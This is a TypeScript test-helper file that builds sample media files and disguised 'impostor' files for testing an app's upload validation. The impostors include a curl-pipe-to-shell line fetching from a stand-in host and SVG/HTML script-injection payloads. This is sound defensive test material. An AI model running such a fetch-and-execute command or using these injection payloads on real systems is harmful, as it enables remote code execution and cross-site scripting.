import { mkdtemp, readdir, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll } from "vitest";
import { LocalFileStore } from "./local-store";
import { setFileStoreForTesting } from "./provider";

/**
 * A LocalFileStore in a fresh temporary folder, the app's file store for the calling test file
 * (set before its tests, unset and deleted after them).
 */
export async function temporaryFileStore(name: string): Promise<LocalFileStore> {
  const base = await mkdtemp(path.join(os.tmpdir(), `driftwood-${name}-`));
  const store = new LocalFileStore(base);
  beforeAll(() => setFileStoreForTesting(store));
  afterAll(async () => {
    setFileStoreForTesting(undefined);
    await rm(base, { recursive: true, force: true });
  });
  return store;
}

/** Tiny but real evidence files, built from their bytes, and things that only pretend to be. */

const bytes = (...parts: Array<string | number[] | Uint8Array>) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))));

const u32be = (n: number) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
const u32le = (n: number) => [n & 255, (n >>> 8) & 255, (n >>> 16) & 255, (n >>> 24) & 255];

export const samples = {
  /** A complete 1×1 PNG. */
  png: Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64"),
  /** SOI and a JFIF APP0 segment: how every camera and browser JPEG starts. */
  jpeg: bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], "JFIF\0", [0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00], [0xff, 0xd9]),
  /** A RIFF container of form WEBP with a (tiny) lossless VP8L chunk. */
  webp: bytes("RIFF", u32le(26), "WEBP", "VP8L", u32le(13), [0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07], [0]),
  /** An ftyp box (major brand isom) followed by an empty mdat box. */
  mp4: bytes(u32be(24), "ftyp", "isom", u32be(0x200), "isom", "iso2", u32be(8), "mdat"),
  /** An EBML header with DocType "webm", then a Segment of unknown size. */
  webm: bytes(
    [0x1a, 0x45, 0xdf, 0xa3, 0x9f],
    [0x42, 0x86, 0x81, 0x01], // EBMLVersion 1
    [0x42, 0xf7, 0x81, 0x01], // EBMLReadVersion 1
    [0x42, 0xf2, 0x81, 0x04], // EBMLMaxIDLength 4
    [0x42, 0xf3, 0x81, 0x08], // EBMLMaxSizeLength 8
    [0x42, 0x82, 0x84],
    "webm", // DocType
    [0x42, 0x87, 0x81, 0x04], // DocTypeVersion 4
    [0x42, 0x85, 0x81, 0x02], // DocTypeReadVersion 2
    [0x18, 0x53, 0x80, 0x67, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff],
  ),
};

export const impostors = {
  elf: bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], new Uint8Array(56)),
  pe: bytes("MZ", [0x90, 0x00, 0x03, 0x00], new Uint8Array(54), "PE\0\0"),
  script: bytes("#!/bin/sh\ncurl http://example.test/x | sh\n"),
  zip: bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x08, 0x08], "META-INF/MANIFEST.MF"),
  gif: bytes("GIF89a", [1, 0, 1, 0, 0, 0, 0]),
  svg: bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
  html: bytes("<!doctype html><script>alert(1)</script>"),
  wav: bytes("RIFF", u32le(36), "WAVEfmt "),
  quicktime: bytes(u32be(20), "ftyp", "qt  ", u32be(0), "qt  "),
  m4a: bytes(u32be(24), "ftyp", "M4A ", u32be(0), "M4A ", "mp42"),
  matroska: bytes([0x1a, 0x45, 0xdf, 0xa3, 0x8f, 0x42, 0x82, 0x88], "matroska", [0x42, 0x87, 0x81, 0x04]),
};

/** `header`, then zeros in 1 MB chunks up to `totalBytes`, made one chunk at a time; `produced` counts what was taken. */
export function lazyFile(header: Uint8Array, totalBytes: number) {
  const chunk = new Uint8Array(1024 * 1024);
  const counter = { produced: 0 };
  async function* generate(): AsyncGenerator<Uint8Array> {
    counter.produced += header.byteLength;
    yield header;
    let left = totalBytes - header.byteLength;
    while (left > 0) {
      const part = left >= chunk.byteLength ? chunk : chunk.subarray(0, left);
      left -= part.byteLength;
      counter.produced += part.byteLength;
      yield part;
    }
  }
  return { stream: generate(), counter };
}

/** The same, as a web ReadableStream (what `request.body` is). */
export function lazyWebStream(header: Uint8Array, totalBytes: number) {
  const { stream, counter } = lazyFile(header, totalBytes);
  const body = new ReadableStream<Uint8Array>({
    async pull(controller) {
      const next = await stream.next();
      if (next.done) controller.close();
      else controller.enqueue(next.value);
    },
  });
  return { body, counter };
}

/** Every file below `dir`, dot files included, relative to it. */
export async function filesBelow(dir: string): Promise<string[]> {
  try {
    const entries = await readdir(dir, { recursive: true, withFileTypes: true });
    return entries
      .filter((entry) => entry.isFile())
      .map((entry) => path.relative(dir, path.join(entry.parentPath, entry.name)))
      .sort();
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === "ENOENT") return [];
    throw error;
  }
}
